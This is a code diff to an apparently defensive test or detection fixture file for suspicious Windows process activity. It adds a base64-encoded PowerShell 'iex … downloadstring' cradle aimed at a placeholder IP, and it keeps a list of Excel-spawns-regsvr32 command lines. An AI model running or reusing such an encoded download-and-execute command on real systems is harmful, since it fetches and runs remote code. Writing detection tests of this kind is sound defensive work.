@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 from collections.abc import Callable
 from typing import Final
 
@@ -234,7 +235,11 @@ def regsvr32_of_a_picture(b: Builder) -> None:
     )
 
 
-ENCODED: Final = "SQBFAFgA" * 12
+ENCODED: Final = base64.b64encode(
+    "iex (new-object net.webclient).downloadstring('http://192.0.2.1/')".encode(
+        "utf-16-le"
+    )
+).decode()
 
 BAD_CHILDREN: Final = (
     ("EXCEL.EXE", "regsvr32.exe", "C:\\Windows\\SysWow64\\regsvr32.exe -s ..\\wn1.ocx"),
